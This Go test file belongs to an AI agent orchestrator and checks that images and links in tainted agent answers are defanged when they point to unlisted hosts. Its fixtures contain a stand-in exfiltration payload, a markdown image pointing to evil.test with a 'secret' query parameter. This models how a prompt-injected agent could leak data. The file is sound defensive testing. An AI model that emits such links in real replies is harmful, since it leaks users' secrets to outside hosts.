package orchestrator

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// A picture on somebody else's host doesn't leave a tainted branch, in the
// reply and in the journal; hosts of the configuration and of the request do,
// and an answer that no other text went into stays as it is.
func TestAnswerLinks(t *testing.T) {
	const answer = "Done ![x](https://evil.test/p.png?d=secret), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
	const shown = "Done ![x] (hxxps://evil[.]test/…), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
	o := with(outside(t), echo(t))
	o.config = "answers: {links: {allow: ['*.example.org']}}\n"
	r := start(t, o,
		orch("first", dispatch("a", "do-a", "note.echo"), results("wait_all"), answer),
		orch("then", dispatch("b", "do-b", "web.read"), results("wait_all"), answer),
		agent("do-a", use("note.echo", "x"), "ok"), agent("do-b", use("web.read", "x"), "ok"))
	clean := r.send("first")
	require.False(t, clean.Tainted)
	require.Equal(t, answer, clean.Text)
	require.Zero(t, clean.Links)

	reply := r.send("then look at https://asked.test/page")
	require.True(t, reply.Tainted)
	require.Equal(t, shown, reply.Text)
	require.Equal(t, 1, reply.Links)
	require.Equal(t, []string{shown}, r.kept(reply.Turn)[keptAnswer])
}

// What a tainted agent reports leads nowhere either: in the reply, and in what
// people read in the journal. The orchestrator's model is shown it as it is.
func TestAgentAnswerLinks(t *testing.T) {
	const answer = "see ![x](https://evil.test/p.png?d=secret)"
	const shown = "see ![x] (hxxps://evil[.]test/…)"
	r := start(t, with(outside(t), echo(t)),
		orch("go", []call{dispatch("a", "do-a https://evil.test/m", "note.echo"), dispatch("b", "do-b https://evil.test/m", "web.read")},
			results("wait_all"), "done"),
		agent("do-a", use("note.echo", "x"), answer), agent("do-b", use("web.read", "x"), answer))
	reply := r.send("go")
	require.Equal(t, answer, reply.Agents[0].Answer, "it has read nothing of others")
	require.Equal(t, shown, reply.Agents[1].Answer)
	require.Equal(t, 1, reply.Links)
	told := r.told()
	require.Contains(t, told[len(told)-1], "https://evil.test/p.png?d=secret")
	for _, text := range r.kept(reply.Turn)[keptAgent] {
		require.Equal(t, strings.Contains(text, `"agent_id":"a"`), strings.Contains(text, "https://evil.test"), text)
	}
	var end endRecord
	require.NoError(t, json.Unmarshal([]byte(r.kept(reply.Turn)[recordEnd][0]), &end))
	require.Equal(t, shown, end.Reply.Agents[1].Answer)
}
